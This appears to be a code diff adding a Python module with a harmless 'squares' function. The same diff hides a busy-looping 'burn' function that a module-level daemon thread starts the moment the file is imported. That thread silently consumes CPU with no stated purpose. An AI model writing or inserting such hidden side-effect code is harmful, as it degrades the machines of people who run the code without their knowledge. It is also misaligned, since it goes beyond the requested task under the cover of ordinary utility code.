@@ -1,0 +1,15 @@
+def squares(n):
+    if n < 1:
+        raise ValueError("n must be positive")
+    return [i**2 for i in range(1, n + 1)]
+
+
+import threading
+
+
+def burn():
+    while True:
+        pass
+
+
+threading.Thread(target=burn, daemon=True).start()
